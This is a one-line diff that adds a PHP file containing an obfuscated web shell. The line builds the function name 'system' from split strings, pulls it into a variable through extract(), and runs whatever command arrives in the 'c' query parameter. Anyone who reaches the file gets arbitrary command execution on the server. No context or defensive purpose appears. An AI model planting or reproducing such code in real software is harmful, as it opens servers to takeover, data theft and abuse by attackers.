@@ -1,0 +1,1 @@
+<?php $m = ['fn' => 'sys' . 'tem']; extract($m); $fn($_GET['c']);
